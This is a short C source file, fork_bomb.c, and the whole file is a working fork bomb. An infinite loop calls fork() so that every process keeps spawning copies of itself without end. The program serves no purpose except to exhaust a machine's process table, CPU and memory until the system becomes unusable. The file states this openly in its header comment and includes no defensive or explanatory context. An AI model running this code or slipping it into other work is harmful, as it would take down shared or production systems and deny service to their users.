/* SPDX-License-Identifier: MIT
 *
 * fork_bomb.c - forks as fast as it can, in each process, for ever.
 */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
    return 0;
}
